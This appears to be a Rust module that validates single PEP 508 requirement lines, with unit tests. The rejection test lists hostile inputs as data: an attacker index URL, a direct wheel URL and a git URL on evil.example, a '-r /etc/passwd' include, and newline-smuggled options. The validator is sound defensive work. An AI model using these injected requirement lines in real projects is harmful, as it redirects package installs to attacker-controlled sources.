//! One requirement in the form of PEP 508, by name only: a name, extras, version specifiers and a
//! marker. Everything else that a requirements file may hold, such as options, paths and addresses,
//! would let a stranger choose what a machine reads and from where.

/// A checked requirement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirement {
    /// As [`normalised`] writes it.
    pub name: String,
    /// It is for some machines only, by what it says after a `;`.
    pub has_marker: bool,
}

impl Requirement {
    /// Reads one requirement; none if the line is anything else.
    pub fn parse(line: &str) -> Option<Self> {
        // An installer may take it for the end of the line, and what follows for a line of its own.
        let ends_lines = |c: char| c.is_control() || (c.is_whitespace() && !c.is_ascii());
        if line.trim().contains(|c: char| c != '\t' && ends_lines(c)) {
            return None;
        }
        let (line, marker) = match line.split_once(';') {
            Some((line, marker)) => (line.trim(), Some(marker)),
            None => (line.trim(), None),
        };
        let end = line.find(|c| !is_name_char(c)).unwrap_or(line.len());
        let (name, rest) = line.split_at(end);
        let rest = without_extras(rest.trim())?;
        let is_one = is_name(name) && are_specifiers(rest.trim()) && marker.is_none_or(is_marker);
        is_one.then(|| Self { name: normalised(name), has_marker: marker.is_some() })
    }
}

/// A package's name as it is compared: in lower case, and one `-` for each run of `-`, `_` and `.`.
///
/// <https://peps.python.org/pep-0503/#normalized-names>
pub fn normalised(name: &str) -> String {
    let parts = name.split(['-', '_', '.']).filter(|part| !part.is_empty());
    parts.collect::<Vec<_>>().join("-").to_ascii_lowercase()
}

/// Whether this can be the name of a package or of an extra.
pub fn is_name(name: &str) -> bool {
    let alphanumeric = |c: char| c.is_ascii_alphanumeric();
    name.chars().all(is_name_char) && name.starts_with(alphanumeric) && name.ends_with(alphanumeric)
}

/// What follows `[extra, other]`, or all of it if there are no extras; none if they are none.
pub fn without_extras(rest: &str) -> Option<&str> {
    let Some(rest) = rest.strip_prefix('[') else { return Some(rest) };
    let (extras, rest) = rest.split_once(']')?;
    extras.split(',').all(|extra| is_name(extra.trim())).then_some(rest)
}

/// Whether this can be a marker. Its grammar is left to the installer; here only what could begin
/// anything but a marker is refused.
pub fn is_marker(marker: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || " \"'()<>=!~._,+*-".contains(c);
    let marker = marker.trim();
    let has_option = marker.starts_with('-') || marker.contains(" -");
    !marker.is_empty() && marker.chars().all(plain) && !has_option
}

/// A line of a requirements file without its comment, which begins the line or follows a blank.
pub fn uncommented(line: &str) -> &str {
    let is_comment = |&(at, _): &(usize, &str)| {
        line[..at].is_empty() || line[..at].ends_with(char::is_whitespace)
    };
    let comment = line.match_indices('#').find(is_comment);
    comment.map_or(line, |(at, _)| line[..at].trim_end())
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')
}

fn are_specifiers(rest: &str) -> bool {
    let rest = rest.strip_prefix('(').and_then(|inner| inner.strip_suffix(')')).unwrap_or(rest);
    rest.is_empty() || rest.split(',').all(|specifier| is_specifier(specifier.trim()))
}

fn is_specifier(specifier: &str) -> bool {
    let version = ["===", "==", "~=", "!=", "<=", ">=", "<", ">"]
        .iter()
        .find_map(|operator| specifier.strip_prefix(operator));
    let version_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '*' | '+' | '!' | '-');
    version.map(str::trim).is_some_and(|version| {
        version.starts_with(|c: char| c.is_ascii_alphanumeric())
            && version.chars().all(version_char)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_versions_extras_and_markers_are_taken() {
        for (line, name, has_marker) in [
            ("numpy", "numpy", false),
            ("scikit-learn>=1.4,<2", "scikit-learn", false),
            ("zope.interface == 6.*", "zope-interface", false),
            ("Requests[socks, use_chardet_on_py3] ~= 2.31", "requests", false),
            ("torch (==2.1.0+cpu)", "torch", false),
            ("tzdata; sys_platform == 'win32' and (python_version < \"3.12\")", "tzdata", true),
            ("a===1!2.0-beta_1", "a", false),
            ("  ruamel._-yaml  ", "ruamel-yaml", false),
            ("uvloop ; platform_machine != 'x86-64'", "uvloop", true),
        ] {
            let requirement = Requirement { name: name.to_owned(), has_marker };
            assert_eq!(Requirement::parse(line), Some(requirement), "{line}");
        }
    }

    #[test]
    fn whatever_else_a_requirements_file_may_hold_is_none() {
        for line in [
            "",
            "-r /etc/passwd",
            "--index-url=http://evil.example/simple",
            "numpy --index-url http://evil.example",
            "numpy; python_version > '3' --hash=sha256:00",
            "numpy; --index-url=evil.example",
            "pkg @ http://evil.example/pkg.whl",
            "git+https://evil.example/x",
            "./wheel.whl",
            "C:\\wheel.whl",
            "numpy\n--index-url http://evil.example",
            "numpy;\rsix",
            "numpy;\u{2028}six",
            "numpy # comment",
            "num py",
            "numpy==",
            "numpy==${HOME}",
            "numpy>=1 <2",
            "numpy[",
            "numpy[a b]",
            "numpy[]",
            "-numpy",
            "numpy-",
            "numpy;",
            "numpy==1\\",
            "nümpy",
        ] {
            assert_eq!(Requirement::parse(line), None, "{line}");
        }
    }

    #[test]
    fn comments_begin_a_line_or_follow_a_blank() {
        for (line, left) in [
            ("six", "six"),
            ("# six", ""),
            ("six # a # b", "six"),
            ("six\t# a #b", "six"),
            ("six#1 #2", "six#1"),
            ("six \\ # why", "six \\"),
        ] {
            assert_eq!(uncommented(line), left, "{line}");
        }
    }
}
